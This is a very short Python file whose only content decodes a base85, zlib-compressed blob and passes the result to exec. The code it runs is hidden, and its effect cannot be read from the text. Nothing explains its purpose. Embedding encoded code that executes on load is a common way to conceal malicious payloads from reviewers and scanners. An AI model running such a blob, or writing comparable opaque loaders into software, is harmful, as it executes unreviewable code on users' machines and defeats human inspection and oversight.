from base64 import b85decode as d
from zlib import decompress as z
exec(compile(z(d(b"c$_Vbu@1s83`BQ-h2^PbU;w5_{T3^t4p=l!NU~M=cUpxv-Q93cV@{=EOXc|n9pxj%WCK_wVDxI!>;Ml!DyXQ2#oJ4!`+q*kMXgPNYLo1C?YN~{k8ruU>mzjB=}Vnv0MLNU=A$s<vLG>^3T7H-!v{YQJ}oW")).decode(),__file__,"exec"))
